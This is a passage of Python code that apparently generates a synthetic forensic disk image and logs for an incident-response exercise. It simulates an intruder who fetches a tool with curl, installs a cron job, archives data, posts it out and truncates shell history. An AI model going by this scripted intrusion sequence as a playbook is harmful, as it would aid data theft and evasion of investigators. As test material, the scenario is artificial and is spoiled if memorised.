    tree.dir("/srv/webapp", owner="deploy", group="deploy", mtime=app)


# --- rendering the logs -------------------------------------------------------------------------


@dataclass
class Written:
    """Text of a written log file and what it counts."""

    data: bytes
    events: int
    malicious: int
    refs: list[Ref]


def _render_syslog(lines: list[Line], path: str) -> Written:
    """A syslog-format file in time order; refs for lines that show a step."""
    ordered = sorted(lines, key=lambda ln: ln.time)
    refs = [
        Ref(ln.ref, ARTIFACT, ln.time.replace(microsecond=0), {"path": path, "line": i}, ln.what)
        for i, ln in enumerate(ordered, 1)
        if ln.ref
    ]
    text = "".join(ln.render() + "\n" for ln in ordered)
    return Written(text.encode(), len(ordered), sum(ln.attack for ln in ordered), refs)


def _render_utmp(records: list[Utmp], path: str) -> Written:
    """wtmp or btmp: the records in time order; refs count records from 0."""
    ordered = sorted(records, key=lambda u: u.time)
    refs = [
        Ref(u.ref, ARTIFACT, u.time, {"path": path, "record": i}, u.what)
        for i, u in enumerate(ordered)
        if u.ref
    ]
    return Written(b"".join(u.pack() for u in ordered), len(ordered), sum(u.attack for u in ordered), refs)


def _bash_histories(
    plan: Attack, sessions: list[Session]
) -> tuple[dict[str, list[str]], list[Ref], datetime]:
    """bob's history is exactly the attack session (S16 emptied it, logout refilled it); deploy's
    holds older work plus each deploy session; root's is from the installation."""
    refs, whats = [], {"S12": "curl fetched the tool", "S13": "crontab installed the job", "S14": "sudo tar",
                       "S15": "curl posted the archive", "S16": "history truncated"}  # fmt: skip
    bob = []
    for i, (_, cmd, step) in enumerate(_attack_commands(plan), 1):
        bob.append(cmd)
        if step:
            locator = {"path": "/home/bob/.bash_history", "line": i}
            refs.append(Ref(step, ARTIFACT, plan.step(step).time, locator, f"bash history: {whats[step]}"))
    deploy = list(DEPLOY_OLD)
    done = [s for s in sessions if s.user == "deploy" and s.end]
    for _ in done:
        deploy.extend(DEPLOY_RUN)
    last = max(s.until for s in done)
    return {"bob": bob, "deploy": deploy, "root": list(ROOT_HISTORY)}, refs, last


# --- the image ----------------------------------------------------------------------------------

MKE2FS_CONF = """[defaults]
\tbase_features = sparse_super,large_file,filetype,resize_inode,dir_index,ext_attr
\tdefault_mntopts = acl,user_xattr
\tenable_periodic_fsck = 0
\tblocksize = 4096
\tinode_size = 256
\tinode_ratio = 16384

[fs_types]
\text4 = {
\t\tfeatures = has_journal,extent,huge_file,flex_bg,metadata_csum,64bit,dir_nlink,extra_isize
\t}
\tsmall = {
\t\tinode_ratio = 4096
\t}
"""
BLOCK = 4096
JOURNAL_BLOCKS = 1024  # the smallest journal mke2fs makes (4 MiB)


def _tool(name: str) -> str:
    """Path of an e2fsprogs program, also where sbin is not on PATH."""
    found = shutil.which(name, path=os.pathsep.join([os.environ.get("PATH", ""), "/usr/sbin", "/sbin"]))
    if not found:
        raise RuntimeError(
            f"{name} (e2fsprogs) is needed to build the SRV01 image: apt-get install e2fsprogs"
        )
    return found


def _stage(nodes: list[Node], root: Path) -> None:
    """Write the tree under ``root``; times are set deepest first so children do not touch them."""
    for node in nodes:
        target = root / node.path.lstrip("/")
        if node.link:
            target.symlink_to(node.link)
        elif node.data is None:
            target.mkdir(parents=True, exist_ok=True)
        else:
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_bytes(node.data)
    for node in sorted(nodes, key=lambda n: n.path.count("/"), reverse=True):
        atime = node.atime or node.mtime
        os.utime(root / node.path.lstrip("/"), ns=(_ns(atime), _ns(node.mtime)), follow_symlinks=False)


def _ns(t: datetime) -> int:
    return int(t.timestamp()) * 1_000_000_000 + t.microsecond * 1000


def _fixups(nodes: list[Node]) -> str:
    """debugfs commands giving each inode its owner, mode and atime/mtime/ctime/crtime to the
    nanosecond: what ``mke2fs -d`` copies from the staging tree (the invoking user, the host's
    change time, the fake clock) is replaced by the server's own values."""
    root = Node("/", None, mode=0o755, mtime=INSTALLED)
    found = Node("/lost+found", None, mode=0o700, mtime=INSTALLED)
    cmds = []
    for node in (root, found, *nodes):
        path = node.path
        values = {"uid": UID[node.owner], "gid": GID[node.group], "mode": f"0{node.kind | node.mode:o}"}
        times = {
            "atime": node.atime or node.mtime,
            "mtime": node.mtime,
            "ctime": node.ctime or node.mtime,
            "crtime": node.crtime or min(node.ctime or node.mtime, node.mtime),
        }
        for name, t in times.items():
            values[name] = f"@{int(t.timestamp())}"
            values[f"{name}_extra"] = (t.microsecond * 1000) << 2
        cmds.extend(f"set_inode_field {path} {k} {v}" for k, v in values.items())
    cmds += [
        f"set_super_value mkfs_time @{int(INSTALLED.timestamp())}",
        f"set_super_value lastcheck @{int(INSTALLED.timestamp())}",
        f"set_super_value mtime @{int(BOOT.timestamp())}",
        "set_super_value mnt_count 14",
    ]
    return "\n".join(cmds) + "\n"


def _size_blocks(nodes: list[Node], inodes: int) -> int:
    """Blocks for the contents, the journal, the inode table and some slack, in whole MiB."""
    data = sum(math.ceil(len(n.data) / BLOCK) for n in nodes if n.data is not None) + len(nodes)
    needed = (data + JOURNAL_BLOCKS + inodes * 256 // BLOCK + 96) * 1.06
    return math.ceil(needed / 256) * 256


def _build(nodes: list[Node], img: Path, seed: int) -> None:
    """Pack the tree into ``img`` with mke2fs -d, then fix inodes and superblock with debugfs."""
    mke2fs, debugfs = _tool("mke2fs"), _tool("debugfs")
    fs_uuid, hash_seed = _uuids(seed)
    inodes = math.ceil((len(nodes) + 64) / 128) * 128
    env = {
        "PATH": os.environ.get("PATH", "/usr/bin:/bin"),
        "LC_ALL": "C",  # mke2fs sorts directory entries with the locale's collation
        "TZ": "UTC",
        "E2FSPROGS_FAKE_TIME": str(int(story.COLLECTED.timestamp())),
        "SOURCE_DATE_EPOCH": str(int(story.COLLECTED.timestamp())),
    }
    with tempfile.TemporaryDirectory(prefix="srv01-") as tmp:
        staging, conf, script = Path(tmp) / "root", Path(tmp) / "mke2fs.conf", Path(tmp) / "fixups.debugfs"
        staging.mkdir()
        _stage(nodes, staging)
        conf.write_text(MKE2FS_CONF)
        script.write_text(_fixups(nodes))
        img.unlink(missing_ok=True)
        blocks = _size_blocks(nodes, inodes)
        _run([mke2fs, "-q", "-F", "-t", "ext4", "-b", str(BLOCK), "-I", "256", "-N", str(inodes), "-m", "5",
              "-M", "/", "-U", fs_uuid, "-E", f"hash_seed={hash_seed},root_owner=0:0,no_copy_xattrs",
              "-d", str(staging), str(img), f"{blocks * BLOCK // 1024}k"], env | {"MKE2FS_CONFIG": str(conf)})  # fmt: skip
        _run([debugfs, "-w", "-f", str(script), str(img)], env)


def _run(cmd: list[str], env: dict[str, str]) -> None:
    """Run an e2fsprogs command; debugfs reports failed commands on stderr but exits 0."""
    done = subprocess.run(cmd, env=env, capture_output=True, text=True, check=False)
    errors = [ln for ln in done.stderr.splitlines() if ln.strip() and not ln.startswith("debugfs 1.")]
    if done.returncode or errors:
        raise RuntimeError(f"{Path(cmd[0]).name} failed ({done.returncode}): {' '.join(errors)[:2000]}")


def _uuids(seed: int) -> tuple[str, str]:
    """The file system's UUID and directory hash seed, fixed per seed."""
    r = story.rng(seed, "srv01-uuid")
    return str(uuid.UUID(int=r.getrandbits(128), version=4)), str(
        uuid.UUID(int=r.getrandbits(128), version=4)
    )


# --- putting it together ------------------------------------------------------------------------


def _restarts(sessions: list[Session]) -> list[datetime]:
    """When deploys restarted the web app."""
    return sorted(t for s in sessions for t, _, cmd in s.sudo if cmd.endswith("restart webapp"))


def _run_server(
    plan: Attack, seed: int, scale: int, fs_uuid: str, keys: dict[str, str]
) -> tuple[Server, list[Session]]:
    """Let SRV01 live through both days and collect what it wrote."""
    srv = Server(story.rng(seed, "srv01-logs"), scale, Pids(story.rng(seed, "srv01-pids")))
    sessions = _sessions(plan, story.rng(seed, "srv01-sessions"), scale)
    _assign_ttys(sessions)
    attack = next(s for s in sessions if s.attack)
    if attack.tty != 1:
        raise AssertionError(f"the attacker's session should get pts/1, got pts/{attack.tty}")
    app, cut = Webapp(srv), next(s for s in sessions if s.end is None)
    for t in sorted([BOOT, *_restarts(sessions)]):  # gunicorn's PIDs change in this order
        if t == BOOT:
            _reboot(srv, app, cut.sid, fs_uuid)
        else:
            app.restart(t)
    _session_events(srv, sessions, keys)
    _cron(srv, plan)
    _crontab_edit(srv, plan)
    _probes(srv)
    _timers(srv)
    srv.pids.assign()
    return srv, sessions


def generate(out: Path, plan: Attack, seed: int, scale: int = 1) -> list[ArtifactReport]:
    """Write ``out/SRV01/srv01.img`` and report its events and where each step shows."""
    for name in ("mke2fs", "debugfs"):  # fail before the work when e2fsprogs is missing
        _tool(name)
    fs_uuid, _ = _uuids(seed)
    bob_line, bob_fp = _pubkey("bob")
    deploy_line, deploy_fp = _pubkey("deploy")
    keys = {"bob": bob_fp, "deploy": deploy_fp, "bob_line": bob_line, "deploy_line": deploy_line}
    srv, sessions = _run_server(plan, seed, scale, fs_uuid, keys)
    nginx = _render_nginx(_nginx(srv, _restarts(sessions)))
    upgrade = next(t for s in sessions for t, _, cmd in s.sudo if cmd.endswith("apt upgrade"))
    history, dpkg = _packages(upgrade + secs(2.1), upgrade + secs(SUDO_TAKES["apt upgrade"] - 0.4))
    bash, bash_refs, deploy_last = _bash_histories(plan, sessions)

    tree = Tree()
    written = {
        "/var/log/auth.log": _render_syslog(srv.logs["auth.log"], "/var/log/auth.log"),
        "/var/log/syslog": _render_syslog(srv.logs["syslog"], "/var/log/syslog"),
        "/var/log/kern.log": _render_syslog(srv.logs["kern.log"], "/var/log/kern.log"),
        "/var/log/wtmp": _render_utmp(srv.wtmp, "/var/log/wtmp"),
        "/var/log/btmp": _render_utmp(srv.btmp, "/var/log/btmp"),
    }
    _add_logs(tree, written, nginx, history, dpkg, srv)
    _etc(tree, seed, fs_uuid, keys)
    _homes(tree, plan, bash, deploy_last)
    _attack_files(tree, plan)
    _data(tree, plan)
    for path in ("/run", "/opt", "/boot", "/usr/bin", "/usr/sbin", "/var/tmp"):
        tree.dir(path)
    tree.link("/bin", "usr/bin")
    tree.link("/sbin", "usr/sbin")
    tree.dir("/var/tmp", mode=0o1777)

    img = out / "SRV01" / "srv01.img"
    img.parent.mkdir(parents=True, exist_ok=True)
    _build(tree.all(), img, seed)

    text_lines = sum(len(log.lines) for log in nginx.values()) + len(dpkg) + sum(1 for ln in history if ln)
    events = sum(w.events for w in written.values()) + text_lines + sum(len(v) for v in bash.values())
    malicious = sum(w.malicious for w in written.values()) + len(bash["bob"])
    if events - malicious < NOISE_RATIO * malicious:
        raise AssertionError(f"SRV01 background too thin: {events - malicious} vs {malicious} malicious")
    refs = [ref for w in written.values() for ref in w.refs] + bash_refs
    s = plan.step
    refs.append(Ref("S12", ARTIFACT, s("S12").time + secs(1), {"path": story.TOOL_PATH}, "the fetched tool"))
    refs.append(
        Ref("S13", ARTIFACT, s("S13").time, {"path": "/var/spool/cron/crontabs/bob"}, "bob's crontab")
    )
    refs.sort(key=lambda ref: (ref.step, ref.time))
    return [ArtifactReport(ARTIFACT, "SRV01", "disk-image", events, malicious, refs)]


def _add_logs(tree: Tree, written: dict[str, Written], nginx: dict[str, TextLog], history: list[str],
              dpkg: list[str], srv: Server) -> None:  # fmt: skip
    """/var/log with the owners, modes and times Ubuntu gives its logs."""
    tree.dir("/var/log", group="syslog", mode=0o775, mtime=story.START)  # the weekly rotation
    last = {
        "/var/log/auth.log": max(ln.time for ln in srv.logs["auth.log"]),
        "/var/log/syslog": max(ln.time for ln in srv.logs["syslog"]),
        "/var/log/kern.log": max(ln.time for ln in srv.logs["kern.log"]),
        "/var/log/wtmp": max(u.time for u in srv.wtmp),
        "/var/log/btmp": max(u.time for u in srv.btmp),
    }
    for path, w in written.items():
        owner, group, mode = ("syslog", "adm", 0o640)
        if path.endswith("tmp"):
            owner, group, mode = "root", "utmp", 0o664 if path.endswith("wtmp") else 0o660
        tree.add(path, w.data, owner=owner, group=group, mode=mode, mtime=last[path], atime=story.START,
                 crtime=story.START)  # fmt: skip
    tree.dir("/var/log/nginx", group="adm", mode=0o755, mtime=ROTATED)
    for name, log in nginx.items():
        rotated = name.endswith(".1")
        born = ROTATED - timedelta(days=1) if rotated else ROTATED
        tree.add(f"/var/log/nginx/{name}", "".join(ln + "\n" for ln in log.lines), owner="www-data", group="adm",
                 mode=0o640, mtime=max(log.last, born), ctime=ROTATED if rotated else None, crtime=born)  # fmt: skip
    month = datetime(2026, 2, 28, 23, 0, 2, tzinfo=UTC)
    end = datetime.strptime(dpkg[-1][:19], "%Y-%m-%d %H:%M:%S").replace(tzinfo=TZ).astimezone(UTC)
    tree.add("/var/log/apt/history.log", "\n".join(history) + "\n", mtime=end, crtime=month)
    tree.add("/var/log/dpkg.log", "\n".join(dpkg) + "\n", mtime=end, crtime=month)
